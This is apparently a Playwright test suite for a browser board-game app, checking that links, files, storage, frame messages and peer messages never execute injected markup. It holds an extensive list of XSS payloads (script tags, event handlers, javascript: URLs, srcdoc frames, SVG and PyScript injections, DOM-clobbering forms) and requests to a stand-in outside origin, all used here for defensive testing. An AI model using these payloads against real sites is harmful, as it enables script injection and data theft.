"""Nothing that a link, a file, storage or a frame brings runs as code: it is shown as text or refused.

Every payload sets `window.hacked`, asks another origin for something, or opens a dialog.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Route, expect
from playwright.sync_api import TimeoutError as PageTimeout

from engine import games, record
from engine.errors import Reason
from engine.match import Match
from engine.players import Player
from engine.rules import Outcome, move_text
from engine.series import Series
from tests.fuzz import corpus
from tests.fuzz.corpus import Sample
from tests.sample import sample
from tools.chromium import wait_until
from ui.storage import preferences
from ui.storage.game_files import FileGame, join_games

from .conftest import Complaints, ready
from .frames import blog, frame_of, sit_down
from .limits import run
from .moves import make_move

ELSEWHERE = "http://127.0.0.2:9/"
PYTHON = "import js; js.hacked = '{}'"
# What PyScript and polyscript look for.
PYTHONIC = {
    "py": f'<script type="py">{PYTHON}</script>',
    "py-async": f'<script type="py" async>{PYTHON}</script>',
    "py-worker": f'<script type="py" worker>{PYTHON}</script>',
    "mpy": f'<script type="mpy">{PYTHON}</script>',
    "pyodide": f'<script type="pyodide">{PYTHON}</script>',
    "micropython": f'<script type="micropython">{PYTHON}</script>',
    "py-script": f"<py-script>{PYTHON}</py-script>",
    "mpy-script": f"<mpy-script>{PYTHON}</mpy-script>",
    "py-error": f'<img src="none.png" py-error="{PYTHON}">',
    "py-click": f'<button type="button" class="press" py-click="{PYTHON}">press</button>',
    "mpy-click": f'<button type="button" class="press" mpy-click="{PYTHON}">press</button>',
}
SCRIPT = "window.hacked = '{}'"
# A form whose fields hide what a filter would ask it.
HIDING = (
    f'<form onclick="{SCRIPT}" action="{ELSEWHERE}{{}}" style="background: url({ELSEWHERE}{{}}.png)"'
    f' py-click="{PYTHON}"><button type="button" class="press">press</button>'
)
HIDDEN = ("localName", "namespaceURI", "remove", "removeAttribute", "removeAttributeNode", "getAttribute")
ACTIVE = {
    "hides": f'{HIDING}<input id="attributes" name="class"><input id="attributes" name="class"></form>',
    "hides-id": f'{HIDING}<input id="attributes">{"".join(f"<input id={name}>" for name in HIDDEN)}</form>',
    "hides-name": f"{HIDING}{''.join(f'<input name={name}>' for name in HIDDEN)}</form>",
    "classic": f"<script>{SCRIPT}</script>",
    "module": f'<script type="module">{SCRIPT}</script>',
    "outside": f'<script src="{ELSEWHERE}{{}}.js"></script>',
    "handler": f'<img src="none.png" onerror="{SCRIPT}">',
    "toggle": f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    "load": f'<svg onload="{SCRIPT}"></svg>',
    "dialog": '<img src="none.png" onerror="alert(\'{}\')">',
    "javascript": f'<a class="press" href="javascript:{SCRIPT};void 0">press</a>',
    "svg-link": f'<svg><a class="press" href="javascript:{SCRIPT};void 0"><text y="9">press</text></a></svg>',
    "srcdoc": f'<iframe srcdoc="<script>parent.{SCRIPT[7:]}</script>"></iframe>',
    "frame": f'<iframe src="javascript:parent.{SCRIPT[7:]}"></iframe>',
    "object": f'<object data="javascript:{SCRIPT}"></object>',
    "svg-script": f"<svg><script>{SCRIPT}</script></svg>",
    "foreign": f'<svg><foreignObject><img src="none.png" onerror="{SCRIPT}"></foreignObject></svg>',
    "animate": f'<svg><animate onbegin="{SCRIPT}" attributeName="x" dur="1s"/></svg>',
    "use": f'<svg><use href="{ELSEWHERE}{{}}.svg#x"/></svg>',
    "style": f'<style>@import "{ELSEWHERE}{{}}.css";</style>',
    "sheet": f'<link rel="stylesheet" href="{ELSEWHERE}{{}}.css">',
    "picture": f'<img src="{ELSEWHERE}{{}}.png">',
    "attribute": f'<p style="background: url({ELSEWHERE}{{}}.png)">x</p>',
    "form": f'<form action="{ELSEWHERE}{{}}"><button class="press">press</button></form>',
    "base": f'<base href="{ELSEWHERE}">',
}


def payloads(by: str = "") -> dict[str, str]:
    """Return one of each by its name. If it runs, it leaves its name with `by` added."""
    return {name: html.replace("{}", name + by) for name, html in (PYTHONIC | ACTIVE).items()}


PAYLOADS = payloads()
EVERYTHING = "".join(PAYLOADS.values())
BROKEN_OUT = f"'\"></p></main>{EVERYTHING}"  # first out of an attribute, a paragraph, the page
SHORT = ('"><img src=x onerror=a()>', "<script>a()</script>", "javascript:a()")  # for fields that are cut off

# Elements that no page of ours contains besides our one script, and attributes that run something.
TRACES = """() => [...document.querySelectorAll("body *")].filter((one) => {
    const ask = (name) => Object.getOwnPropertyDescriptor(Element.prototype, name).get.call(one);
    const elements = /^(script|iframe|object|embed|style|link|base|animate|foreignObject|m?py-script)$/;
    return !Element.prototype.matches.call(one, "body > script[type=py]:only-of-type")
        && (elements.test(ask("localName")) || [...ask("attributes")].some(({ name, value }) =>
            /^(on|m?py-|srcdoc|action)/.test(name) || /^\\s*javascript:/i.test(value) && name !== "value"));
    }).map((one) => one.outerHTML)"""
STATE = f"""() => [
    window.hacked ?? null,
    ({TRACES})(),
    document.querySelector(".crash")?.innerText ?? null,
    document.querySelectorAll("#notice").length,
    document.querySelectorAll("#app h1").length,
]"""
OPEN = """(address) => {
    history.pushState(null, "", address || location.pathname);
    dispatchEvent(new PopStateEvent("popstate"));
}"""
KEEP = "([key, text]) => localStorage.setItem(key, text)"
TO_DATABASE = """async (entries) => {
    const opened = indexedDB.open("tabtop");
    await new Promise((resolve) => { opened.onsuccess = resolve });
    const transaction = opened.result.transaction("texts", "readwrite");
    for (const [key, text] of Object.entries(entries)) {
        transaction.objectStore("texts").put({ stamp: Date.now(), text }, key);
    }
    await new Promise((resolve) => { transaction.oncomplete = resolve });
    opened.result.close();
}"""


@pytest.fixture
def dialogs(page: Page) -> Iterator[list[str]]:
    """Collect the dialogs that a page opens; there must be none."""
    opened: list[str] = []

    def note(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    yield opened
    assert not opened


@pytest.fixture
def sent(context: BrowserContext) -> Iterator[list[str]]:
    """Collect the requests to another origin that the browser sends; those that it refuses don't count."""
    left: list[str] = []

    def note(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    context.route(f"{ELSEWHERE}**", note)
    yield left
    assert not left


pytestmark = pytest.mark.usefixtures("dialogs", "sent")


def unharmed(page: Page, way: str) -> None:
    """Check that nothing has run, nothing active is in the page, and the app goes on."""
    hacked, traces, crash, notices, headings = page.evaluate(STATE)
    assert hacked is None, way
    assert traces == [], way
    assert crash is None, f"{way}: {crash}"
    assert notices <= 1, way
    assert headings == 1, way


def saved(moves: int = 6) -> str:
    """Return the record of a game, with every kind of line that a record may have."""
    match = Match(games.get("homeward").setup(players=2, seed=7))
    for _ in range(moves):
        match.play(match.decision.legal[0])
    players = [Player("human", "Ana"), Player("human", "Luis")]
    return record.write(record.of(match, players, {"speed": "instant", "saved": "2026-11-16T18:30:00Z"}))


def spoiled_lines(text: str, by: str) -> Iterator[tuple[str, str]]:
    """For each field of a record, yield the record with that field spoiled, and the field's name."""
    lines = text.splitlines()
    for number, line in enumerate(lines):
        if line.startswith("snapshot "):
            data = json.loads(line.removeprefix("snapshot "))
            for key in data:
                yield f"snapshot.{key}", _with(lines, number, f"snapshot {json.dumps(data | {key: by})}")
            yield "snapshot.key", _with(lines, number, f"snapshot {json.dumps(data | {by: 1})}")
            continue
        words = line.split(" ")
        for place in range(len(words)):
            spoiled = [*words[:place], by, *words[place + 1 :]]
            yield f"{number}.{place}", _with(lines, number, " ".join(spoiled))


def _with(lines: list[str], number: int, line: str) -> str:
    return "\n".join([*lines[:number], line, *lines[number + 1 :]]) + "\n"


def all_spoiled(text: str, by: str) -> str:
    """Return a record in which all free texts are spoiled: names and notes."""
    seats = re.sub(r"(?m)^(seat \w+ human) .*", lambda found: f"{found[1]} {by}", text)
    noted = seats.replace("moves\n", f"note title {by}\nnote {by} {by}\nmoves\n", 1)
    return re.sub(r"(?m)^(note saved) .*", lambda found: f"{found[1]} {by}", noted)


@pytest.mark.parametrize(
    "by", sample((BROKEN_OUT, *SHORT), BROKEN_OUT), ids=["everything", "quote", "tag", "scheme"]
)
def test_a_link_with_a_record_runs_nothing(page: Page, site: str, by: str) -> None:
    page.goto(f"{site}#g={record.pack(all_spoiled(saved(), by))}")
    ready(page)
    unharmed(page, "all at once")
    expect(page.locator("#app")).to_contain_text(record.clean_name(by))
    for field, text in spoiled_lines(saved(), by):
        follow(page, text, field)
    page.evaluate(OPEN, "")
    unharmed(page, "the lobby that lists them")
    expect(page.locator("#app")).to_contain_text(record.clean_name(by))


def follow(page: Page, text: str, field: str) -> None:
    """Open a link to a game; the game is shown, or one sentence says why not."""
    page.evaluate(OPEN, f"?lang=en#g={record.pack(text)}")
    unharmed(page, field)
    shown = page.locator("#notice").count() or page.locator("main[data-number], main.replay").count()
    assert shown, f"{field}: neither refused nor opened"


# --- positions of every game

ENDS = 4  # first and last values of a list that are spoiled; a payment in Bounty has four


def place_of(field: str, position: Any) -> tuple[Any, str]:
    """Return what holds a field of a position, as `corpus.fields` writes it, and the field's own name."""
    _, *frame, name = field.replace(" ", ".").split(".")
    frames = position.get("frames", ())
    return (next(one for one in frames if one["kind"] == frame[1]) if frame else position), name


def by_field(game: str) -> dict[str, Sample]:
    """Return, for each field of a game's positions and frames, a position in which it holds much."""
    found: dict[str, tuple[int, Sample]] = {}
    for one in corpus.samples():
        if one.record.setup.game == game:
            for field in corpus.fields(game, one.position):
                holder, name = place_of(field, one.position)
                size = len(json.dumps(holder[name]))
                if field not in found or found[field][0] < size:
                    found[field] = (size, one)
    return {field: one for field, (_, one) in found.items()}


def spoiled_positions(field: str, one: Sample, by: str) -> Iterator[Mapping[str, Any]]:
    """Yield a position with that field spoiled: all of it, and each of the first and last values in it."""
    for place in (None, *range(-ENDS, ENDS)):
        position = deepcopy(dict(one.position))
        holder, at = place_of(field, position)
        while place is not None and isinstance(holder[at], (list, dict)) and holder[at]:
            holder = holder[at]
            inside = list(holder) if isinstance(holder, dict) else range(len(holder))
            at = inside[place % len(inside)]
        holder[at] = by
        yield position


def spoiled_moves(game: str, by: str) -> Iterator[tuple[str, Sample, str]]:
    """Yield a line for each kind of move with one of its words spoiled, and a position to play it in."""
    kinds: dict[str, tuple[Sample, str]] = {}
    for one in corpus.samples():
        if one.record.setup.game == game:
            for seat, move in one.record.moves:
                kinds.setdefault(str(move[0]), (one, f"{seat + 1} {move_text(move)}"))
    for verb, (one, line) in kinds.items():
        words = line.split(" ")
        for place in range(len(words)):
            spoiled = [*words[:place], by.replace(" ", "/"), *words[place + 1 :]]
            yield f"{verb}.{place}", one, " ".join(spoiled)


@pytest.mark.parametrize("game", sample(corpus.GAMES, "bounty"))
def test_a_link_with_a_position_runs_nothing(page: Page, site: str, game: str) -> None:
    """The first way in that was found: an amount in a frame of Bounty that was markup."""
    page.goto(site)
    ready(page)

    def written(one: Sample, position: Mapping[str, Any]) -> str:
        return record.write(one.record._replace(snapshot=None, moves=(), start=position))

    for field, one in by_field(game).items():
        for text in {written(one, position) for position in spoiled_positions(field, one, BROKEN_OUT)}:
            follow(page, text, field)
    for field, one, line in spoiled_moves(game, BROKEN_OUT):
        follow(page, written(one, one.position) + line + "\n", field)


def test_a_file_runs_nothing(page: Page, site: str, tmp_path: Path) -> None:
    page.goto(site)
    ready(page)
    chosen = tmp_path / "game.txt"
    texts = [("all at once", all_spoiled(saved(), BROKEN_OUT)), ("none of ours", EVERYTHING)]
    for field, text in [*texts, *spoiled_lines(saved(), BROKEN_OUT)]:
        chosen.write_text(text)
        page.evaluate(OPEN, "")
        page.locator("#f-import").set_input_files(chosen)
        expect(page.locator("#notice, main[data-number]").first).to_be_visible()
        unharmed(page, field)


@pytest.mark.thorough
def test_a_file_with_all_games_runs_nothing(page: Page, site: str, tmp_path: Path) -> None:
    page.goto(site)
    ready(page)
    chosen = tmp_path / "games.txt"
    fine = FileGame(saved(), "fine", wishes=json.dumps({"0": "payment"}))
    spoiled = [("record", fine._replace(record=all_spoiled(saved(), BROKEN_OUT)))]
    spoiled += [(name, fine._replace(**{name: BROKEN_OUT})) for name in ("key", "series", "wishes")]
    spoiled += [
        ("unreadable", fine._replace(unreadable=json.dumps(by), key=by)) for by in (BROKEN_OUT, "raw")
    ]
    spoiled += [(name, fine._replace(series=json.dumps(data))) for name, data in spoiled_series(BROKEN_OUT)]
    files = {field: [fine, one] for field, one in spoiled}
    for field, content in {"all at once": [one for _, one in spoiled], **files}.items():
        chosen.write_text(join_games(content))
        page.evaluate(OPEN, "")
        page.locator("#f-import").set_input_files(chosen)
        expect(page.locator("#notice")).to_be_visible()
        unharmed(page, field)


def spoiled_series(by: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield the stored scores of earlier games, once with each of their values spoiled."""
    before = Series(games.get("homeward").setup(2, {"points": 1}, seed=7))
    before.add(Outcome((0,), Reason("all_home"), scores=(45, 10), sheet=(("home", (20, 10)),)))
    data = before.to_json()
    yield from spoiled_values(data, by)
    for name, game in spoiled_values(data["played"][0], by):
        yield f"played {name}", {**data, "played": [game]}


def test_saved_games_run_nothing(page: Page, site: str) -> None:
    kept = {f"tabtop:game:all{number}": all_spoiled(saved(), by) for number, by in enumerate(SHORT)}
    kept["tabtop:game:all"] = all_spoiled(saved(), BROKEN_OUT)
    kept["tabtop:game:raw"] = EVERYTHING
    kept[f"tabtop:game:{BROKEN_OUT}"] = saved()
    beside = ("series", "wishes", "remote")
    kept |= {f"tabtop:{part}:all": json.dumps({"0": BROKEN_OUT}) for part in beside}
    page.goto(f"{site}404.html")
    for one in kept.items():
        page.evaluate(KEEP, one)
    page.goto(site)
    ready(page)
    expect(page.locator("#u-raw")).to_be_visible()
    unharmed(page, "all at once")
    fields = list(spoiled_lines(saved(), BROKEN_OUT))
    page.goto(f"{site}404.html")
    page.evaluate("localStorage.clear()")
    for number, (_, text) in enumerate(fields):
        page.evaluate(KEEP, [f"tabtop:game:f{number}", text])
    page.goto(site)
    ready(page)
    unharmed(page, "the lobby")
    for number, (field, _) in enumerate(fields):
        for address in (f"?table=f{number}", f"?page=replay&key=f{number}", f"?page=share&key=f{number}"):
            page.evaluate(OPEN, address)
            unharmed(page, f"{field} at {address}")
    answers = spoiled_values({"0": "payment", "asked0": "payment"}, BROKEN_OUT)
    guests = spoiled_values({"1": f"0123456789ab {SHORT[0]}"}, BROKEN_OUT)
    for part, found in (("series", spoiled_series(BROKEN_OUT)), ("wishes", answers), ("remote", guests)):
        for number, (field, data) in enumerate(found):
            key = f"{part}{number}"
            page.evaluate(KEEP, [f"tabtop:game:{key}", saved()])
            page.evaluate(KEEP, [f"tabtop:{part}:{key}", json.dumps(data)])
            page.evaluate(OPEN, f"?table={key}")
            expect(page.locator("main[data-number]")).to_be_visible()
            unharmed(page, f"{part}: {field}")


def test_a_saved_game_that_only_the_database_has_runs_nothing(page: Page, site: str) -> None:
    page.goto(site)
    ready(page)
    texts = {"all": all_spoiled(saved(), BROKEN_OUT), "raw": EVERYTHING, BROKEN_OUT: saved()}
    run(page, TO_DATABASE, {f"tabtop:game:{key}": text for key, text in texts.items()})
    page.reload()
    ready(page)
    expect(page.locator("#u-raw")).to_be_visible()
    expect(page.locator("#r-all")).to_contain_text(record.clean_name(BROKEN_OUT))
    unharmed(page, "the lobby")
    page.evaluate(OPEN, "?table=all")
    expect(page.locator("main[data-number]")).to_be_visible()
    unharmed(page, "the table")


def spoiled_values(data: Mapping[str, Any], by: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """For each value of an object, yield the object with that value spoiled, and the value's name."""
    for name in data:
        for kind in (by, [by], {by: by}):
            yield f"{name} as {type(kind).__name__}", {**data, name: kind}
    yield "a key", {**data, by: by}


SETTINGS = preferences.DEFAULTS
FORM = {
    "seats": 2,
    "kinds": ["human"] * 4,
    "names": ["", "", "", ""],
    "options": {"quick": 1},
    "first": 0,
    "speed": "instant",
    "colors": [],
    "takebacks": True,
}
PLAYED = "k1,2026-10-01T19:00:00Z,homeward,human+normal,1,60,0"


@pytest.mark.thorough
def test_settings_forms_and_statistics_run_nothing(page: Page, site: str) -> None:
    def spoil(name: str, text: str) -> None:
        page.evaluate(KEEP, [name, text])

    page.goto(f"{site}404.html")
    spoil("tabtop:settings", json.dumps(dict.fromkeys(SETTINGS, BROKEN_OUT)))
    spoil("tabtop:setup:homeward", json.dumps(FORM | {"names": [BROKEN_OUT] * 4, "kinds": [BROKEN_OUT] * 4}))
    spoil("tabtop:played", ",".join([BROKEN_OUT.replace(",", "")] * 7) + "\n" + PLAYED)
    page.goto(site)
    ready(page)
    pages = ("", "?page=settings", "?page=statistics", "?page=setup&game=homeward")
    for address in pages:
        page.evaluate(OPEN, address)
        unharmed(page, address)
    for field, settings in spoiled_values(SETTINGS, BROKEN_OUT):
        spoil("tabtop:settings", json.dumps(settings))
        page.evaluate(OPEN, "?page=settings")
        unharmed(page, f"setting {field}")
    for field, form in spoiled_values(FORM, BROKEN_OUT):
        spoil("tabtop:setup:homeward", json.dumps(form))
        page.evaluate(OPEN, "?page=setup&game=homeward")
        unharmed(page, f"form {field}")
    for place in range(7):
        for by in (BROKEN_OUT.replace(",", ""), *SHORT):
            cells = PLAYED.split(",")
            cells[place] = by
            spoil("tabtop:played", ",".join(cells))
            page.evaluate(OPEN, "?page=statistics")
            unharmed(page, f"statistics {place}")


def test_link_parameters_and_names_run_nothing(page: Page, site: str) -> None:
    usual = {"game": "homeward", "seats": "human,human", "names": "Ana,Luis", "seed": "5", "speed": "instant"}
    more = ("options", "first", "colors", "takebacks", "lang", "theme", "table", "page", "key", "at", "rule")
    page.goto(f"{site}?{urlencode(usual | {'names': BROKEN_OUT, 'lang': BROKEN_OUT, 'theme': BROKEN_OUT})}")
    ready(page)
    unharmed(page, "all at once")
    for by in (EVERYTHING, *SHORT):
        for name in (*usual, *more):
            page.evaluate(OPEN, f"?{urlencode(usual | {name: by})}")
            unharmed(page, name)
        for place in ("rules", "learn", "setup", "embed", "replay", "share", "statistics", "settings"):
            for name in ("game", "key", "rule", "chapter", "at"):
                page.evaluate(OPEN, f"?{urlencode({'page': place, 'game': 'homeward', name: by})}")
                if place != "embed" or name == "game":
                    unharmed(page, f"{place} {name}")
    for by in (BROKEN_OUT, *SHORT):
        page.evaluate(OPEN, "?page=setup&game=homeward")
        page.locator("[data-field='names.0']").fill(by)
        page.get_by_role("button", name="Play", exact=True).click()
        expect(page.locator("main[data-number]")).to_be_visible()
        unharmed(page, "a typed name")


def test_messages_to_a_frame_run_nothing(
    page: Page, site: str, tmp_path: Path, complaints: Complaints
) -> None:
    link = f"{site}embed.html?game=homeward&seats=human,human&seed=5&speed=instant"
    with blog(tmp_path / "blog", link) as address:
        page.goto(address)
        frame = frame_of(page)
        for _ in ("before it starts", "after"):
            page.evaluate(
                """(payloads) => {
                    const frame = document.querySelector("iframe").contentWindow;
                    for (const text of payloads) {
                        for (const type of ["tabtop:resize", "tabtop:page", "py:done", text]) {
                            frame.postMessage({ type, data: text, html: text, value: text }, "*");
                        }
                        frame.postMessage(text, "*");
                    }
                }""",
                [EVERYTHING, PYTHON, SCRIPT],
            )
            if frame.locator("#poster").count():
                sit_down(frame)
        assert frame.evaluate("window.hacked") is None
        assert frame.evaluate(TRACES) == []
        make_move(frame)
        expect(frame.locator("#log li").first).to_be_visible()
        assert complaints == [f"left the origin: {address}"], "that is the page around the frame"
        complaints.clear()


# --- what other devices send: turns, invitations, answers, messages

MAIL = {"table": "0123456789ab", "before": "0", "sent": "3"}


def test_a_turn_by_message_runs_nothing(page: Page, site: str) -> None:
    fine = saved().replace(
        "moves\n", "".join(f"note {word}\n" for word in map(" ".join, MAIL.items())) + "moves\n"
    )
    page.goto(f"{site}#g={record.pack(all_spoiled(fine, BROKEN_OUT))}&to=1")
    ready(page)
    unharmed(page, "all at once")
    expect(page.locator("main[data-number]")).to_be_visible()
    for act in ("go:page=share", "go:page=send"):  # the log is a part of the message
        page.locator(f"[data-act^='{act}']").first.click()
        expect(page.locator("main.sharing")).to_contain_text(record.clean_name(BROKEN_OUT))
        unharmed(page, act)
    for field, text in spoiled_lines(fine, BROKEN_OUT):
        page.evaluate(OPEN, f"?lang=en#g={record.pack(text)}&to=2")
        unharmed(page, field)
        assert page.locator("#notice").count() or page.locator("main[data-number], main.replay").count(), (
            field
        )
    for by in (EVERYTHING, *SHORT):
        page.evaluate(OPEN, f"?lang=en#{urlencode({'g': record.pack(fine), 'to': by, 'at': by})}")
        unharmed(page, "to")
    page.evaluate(OPEN, "")
    unharmed(page, "the lobby that lists them")


SHOWN = "document.querySelector('#app h1')?.textContent"


def test_invitations_and_answers_in_addresses_run_nothing(page: Page, site: str) -> None:
    page.clock.install()
    page.goto(f"{site}join.html?{urlencode({'lang': BROKEN_OUT, 'theme': BROKEN_OUT})}#i={quote(BROKEN_OUT)}")
    page.click("[data-act=join]")
    expect(page.get_by_label("Invitation link")).to_be_visible()
    for by in (BROKEN_OUT, *SHORT, *PAYLOADS.values()):
        page.evaluate("(code) => { location.hash = new URLSearchParams({ a: code }) }", by)
        wait_until(page, f"{SHOWN}?.startsWith('Looking')")
        page.clock.run_for(3_000)  # until no table in this browser has taken it
        expect(page.get_by_label("Code for the table")).to_have_value(by)
        assert page.evaluate("window.hacked") is None, by
        assert page.evaluate(TRACES) == [], by
        page.evaluate("(code) => { location.hash = new URLSearchParams({ i: code }) }", by)
        page.click("[data-act=join]")
        page.get_by_label("Invitation link").fill(f"{by}#i={by}")
        page.click("[data-act='guest.open']")
        assert page.evaluate("window.hacked") is None, by
        assert page.evaluate(TRACES) == [], by


# A guest that sends what it likes to a table in another window of this browser.
ENTER = """async (code) => {
    const folder = document.querySelector("script[type=module]").src.replace(/guest.js$/, "");
    const { nearby } = await import(`${folder}peer.js`);
    const { read } = await import(`${folder}wire.js`);
    const { token } = read(code);
    window.got = [];
    window.enter = async () => {
        window.channel = await nearby(token);
        channel.onmessage = (text) => got.push(JSON.parse(text));
        await new Promise((open) => { channel.onstate = (state) => state === "open" && open() });
    };
    window.hello = (more) => channel.send(JSON.stringify({ t: "hello", v: 1, id: "guest", token, ...more }));
    let id = 0;
    window.press = (kind, value, extra) => {
        const { number, epoch } = got.findLast(({ t }) => t === "page");
        channel.send(JSON.stringify({ t: "press", id: (id += 1), number, epoch, kind, value, extra }));
    };
    window.answered = async () => {
        const before = got.length;
        channel.send('{"t":"ping"}');
        const isAnswered = () => got.slice(before).some(({ t }) => t === "pong");
        while (!isAnswered()) await new Promise((next) => setTimeout(next));
    };
}"""
MOST = 1_900  # characters; a guest's field is cut off a little later


def chunks() -> list[str]:
    """Return all payloads in texts that are short enough for a guest's message."""
    texts = [BROKEN_OUT[:14]]
    for html in PAYLOADS.values():
        if len(texts[-1]) + len(html) > MOST:
            texts.append(BROKEN_OUT[:14])
        texts[-1] += html
    return texts


SETTINGS_OF_A_GUEST = ("lang", "chosen", "theme", "text", "motion", "sound", "moves", "keys", "watch", "calm")
ACTS = ("react", "consent", "look", "settings", "undo", "answer", "curtain", "hint", "send", "limit", "")


def test_messages_from_a_guest_run_nothing(page: Page, site: str, context: BrowserContext) -> None:
    page.goto(f"{site}?game=homeward&seats=human,remote&seed=5&speed=instant")
    ready(page)
    invitation = page.locator("[data-invite]")
    expect(invitation).to_have_attribute("href", re.compile("#i="))
    guest = context.new_page()
    guest.goto(f"{site}join.html")
    run(guest, ENTER, str(invitation.get_attribute("href")).partition("#i=")[2])
    run(guest, "enter")
    name = record.clean_name(BROKEN_OUT)
    more: dict[str, object] = dict.fromkeys(SETTINGS_OF_A_GUEST, SHORT[0])
    guest.evaluate("(more) => window.hello(more)", more | {"name": name, "lang": [*SHORT, "en"]})
    wait_until(guest, "got.some(({ t }) => t === 'page')")
    expect(page.locator("#app")).to_contain_text(name)
    unharmed(page, "all at once")
    for by in (*chunks(), *SHORT):
        run(guest, "enter")  # a channel takes so many messages
        for name in ("name", *SETTINGS_OF_A_GUEST):
            guest.evaluate("(more) => window.hello(more)", {"name": "Eva", name: by})
        for kind in ("move", "pick", "drag", "drop", "point", "key", "board", "field", "act", by):
            guest.evaluate("([...press]) => window.press(...press)", [kind, by, by])
        for value in (*(f"{act}:{by}" for act in ACTS), *(f"set.{name}" for name in SETTINGS)):
            kind = "field" if value.startswith("set.") else "act"
            guest.evaluate("([...press]) => window.press(...press)", [kind, value, by])
        run(guest, "answered")
        unharmed(page, by)
    html = "".join(guest.evaluate("got.map(({ html }) => html ?? '')"))
    assert "data-number" in html
    markup = [text for text in (*PAYLOADS.values(), *SHORT) if "<" in text]
    assert not [text for text in markup if text in html], "it is escaped in guests' pages, too"
    guest.evaluate("channel.send('x'.repeat(9_000))")
    expect(page.locator("#app")).to_contain_text("Away")
    unharmed(page, "the guest was cut off")


# --- the page that is kept for a reload

LEFT = "tabtop:left"
LINK = "?game=homeward&seats=human,human&seed=5&speed=instant"


def test_the_page_kept_for_a_reload_runs_nothing(page: Page, site: str, complaints: Complaints) -> None:
    page.goto(site + LINK)
    ready(page)
    make_move(page)
    # The page is kept when it is left, and spoiled before the next one reads it.
    attributes = f' onclick="window.hacked = 1" style="background: url({ELSEWHERE}g.png)"'
    page.add_init_script(
        f"""(() => {{
            const payloads = {json.dumps(EVERYTHING)};
            const [identity, html] = JSON.parse(sessionStorage.getItem("{LEFT}")) ?? [];
            if (!html) return;
            const spoiled = html.replaceAll("<li", payloads + "<li").replaceAll("<g ", `<g {attributes} `);
            sessionStorage.setItem("{LEFT}", JSON.stringify([identity, payloads + spoiled]));
        }})()"""
    )
    page.route("**/stdlib.zip*", lambda route: route.abort())  # Python never runs, so the kept page stays
    page.reload()
    expect(page.locator("#app svg.board")).to_be_visible()
    page.wait_for_selector("html[data-failed]", state="attached")
    assert page.evaluate("window.hacked") is None
    assert page.evaluate(TRACES) == []
    assert page.locator("#app [style*=url]").count() == 0
    complaints.clear()  # the missing file, and what the browser refused while reading the markup


# --- markup that gets past all of this

MORPH = "(html) => Idiomorph.morph(app, tabtop.parse(html), { morphStyle: 'innerHTML' })"
SINKS = {
    "morph": MORPH,
    "append": "(html) => { app.append(tabtop.parse(html)) }",
    "clone": "(html) => { app.append(document.importNode(tabtop.parse(html), true)) }",
}
BY_HAND = """() => {
    const made = (name, attributes, text = "") => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        element.append(text);
        app.append(element);
        return element;
    };
    for (const type of ["py", "mpy", "pyodide", "micropython"]) {
        made("script", { type }, `import js; js.hacked = "${type} by hand"`);
    }
    for (const name of ["py-script", "mpy-script", "pyodide-script", "script-py"]) {
        made(name, {}, `import js; js.hacked = "${name} by hand"`);
    }
    for (const name of ["py-click", "mpy-click", "pyodide-click"]) {
        const late = made("button", {}, "press");
        late.setAttribute(name, `import js; js.hacked = "${name} by hand"`);
        late.click();
    }
    const shadow = made("div", {}).attachShadow({ mode: "open" });
    const inside = document.createElement("script");
    inside.type = "py";
    inside.append('import js; js.hacked = "in a shadow"');
    shadow.append(inside);
}"""
BLOCKED = """(html) => {
    const refused = (work) => { try { work(); return null } catch (error) { return error.name } };
    const element = document.createElement("div");
    return [
        refused(() => { element.innerHTML = html }),
        refused(() => { element.insertAdjacentHTML("beforeend", html) }),
        refused(() => new DOMParser().parseFromString(html, "text/html")),
        refused(() => document.write(html)),
        refused(() => { document.createElement("script").src = "boot.js" }),
        refused(() => { document.createElement("script").textContent = "1" }),
        refused(() => { document.createElement("iframe").srcdoc = html }),
        refused(() => setTimeout("window.hacked = 'a timer'")),
        refused(() => trustedTypes.createPolicy("another", { createHTML: (text) => text })),
    ];
}"""
PATIENCE = 3  # seconds in which PyScript would have run a script


def nothing_runs(page: Page) -> None:
    """Wait as long as PyScript would take to run something."""
    for button in page.locator("#app .press").all():
        button.dispatch_event("click")
    try:
        wait_until(page, "window.hacked", limit=PATIENCE)
    except PageTimeout:
        return
    pytest.fail(f"{page.evaluate('window.hacked')} has run")


@pytest.mark.parametrize("link", [LINK, "embed.html" + LINK.replace("game", "page=rules&game")])
def test_markup_that_reaches_the_page_unescaped_runs_nothing(
    page: Page, site: str, complaints: Complaints, link: str
) -> None:
    """Simulate a template that forgets to escape: the markup gets into the page but runs nothing."""
    page.goto(site + link)
    ready(page)
    for sink, how in SINKS.items():
        # Idiomorph itself fails at forms that hide its methods, and shows none of the page.
        markup = "".join(
            html for name, html in payloads(f"-by-{sink}").items() if not name.startswith("hides")
        )
        scripts = page.locator("#app script[type=py]").count()
        page.evaluate(how, markup)
        assert page.locator("#app script[type=py]").count() > scripts, "the markup is there"
    page.evaluate(BY_HAND)
    assert page.evaluate("customElements.get('py-script') ?? customElements.get('mpy-script')") is None
    assert page.evaluate(BLOCKED, EVERYTHING) == ["TypeError"] * 9
    nothing_runs(page)
    assert page.url.startswith(site), "no form was sent and no link followed"
    complaints.clear()  # the browser reports what it refused
